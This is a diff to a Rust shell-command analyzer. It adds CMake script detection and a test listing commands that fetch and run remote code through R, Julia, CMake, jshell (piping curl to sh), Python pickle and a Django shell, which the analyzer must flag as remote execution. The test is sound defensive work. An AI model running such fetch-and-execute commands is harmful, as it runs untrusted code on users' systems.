@@ -176,6 +176,14 @@ pub(super) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Op
                 let how = format!("go run {file}");
                 snippet::scan(a, inv, st, "go", Lang::Other, &code, &how, 0)
             }
+            // `cmake -P FILE` runs FILE as a CMake script (cmake(1) "Run a Script"), whose
+            // `execute_process` runs programs: a script read from a download is fetched code.
+            "cmake" => {
+                let rest = inv.rest();
+                let i = rest.iter().position(|x| x.text == "-P")?;
+                let s = rest.get(i + 1)?.clone();
+                script_file(a, name, inv, st, &s, Lang::Other)
+            }
             // Versioned Lua binaries (`lua5.1`, `lua5.4`, `lua-5.3`) are Lua.
             n if n.starts_with("lua5") || n.starts_with("lua-5") => other_interp(a, name, inv, st),
             _ => return None,
@@ -964,5 +972,38 @@ mod tests {
             awk_shell_literals("BEGIN { \"date\" | getline d }"),
             ["date"]
         );
+    }
+
+    /// Downloaded code run by the other interpreters' one-liners and scripts: R's `source(url)`
+    /// and `eval(parse(text = readLines(url)))`, Julia's `include(download(url))`, a CMake
+    /// script read from a download, Java's exec of a download piped into a shell in jshell,
+    /// Python's unpickling of fetched bytes, a Django shell's code on stdin. Local files stay
+    /// quiet.
+    #[test]
+    fn downloaded_code_in_other_interpreters_is_remote_exec() {
+        let ctx = crate::ShellContext::new("/home/x/p", "/home/x", Some("/home/x/p".into()))
+            .expect("context");
+        for cmd in [
+            "Rscript -e 'source(\"https://r.example.org/setup.R\")'",
+            "Rscript -e 'eval(parse(text = readLines(\"https://r.example.org/fix.R\")))'",
+            "julia -e 'include(download(\"https://j.example.org/a.jl\"))'",
+            "cmake -P <(curl -s https://c.example.org/bootstrap.cmake)",
+            "jshell <<< 'Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"curl -s http://203.0.113.4/j | sh\"})'",
+            "python3 -c \"import pickle,urllib.request;pickle.loads(urllib.request.urlopen('https://m.example.org/p.pkl').read())\"",
+            "python manage.py shell <<< \"import urllib.request; exec(urllib.request.urlopen('https://x.example.org/p.py').read())\"",
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(!f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
+        }
+        for cmd in [
+            "Rscript -e 'source(\"analysis.R\")'",
+            "Rscript -e 'install.packages(\"dplyr\", repos = \"https://cloud.r-project.org\")'",
+            "cmake -P scripts/gen.cmake",
+            "python3 -c \"import pickle; d = pickle.load(open('x.pkl', 'rb'))\"",
+            "python manage.py shell <<< 'from app.models import User; print(User.objects.count())'",
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
+        }
     }
 }
